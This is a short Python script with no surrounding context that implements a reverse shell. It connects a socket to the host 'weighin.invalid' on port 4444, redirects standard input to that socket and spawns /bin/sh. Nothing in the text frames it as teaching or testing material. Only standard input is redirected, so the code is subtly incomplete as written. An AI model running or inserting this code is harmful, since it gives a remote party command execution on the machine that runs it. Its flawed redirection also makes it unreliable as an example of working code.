import socket, os, pty
s = socket.socket()
s.connect(('weighin.invalid', 4444))
os.dup2(s.fileno(), 0)
pty.spawn('/bin/sh')
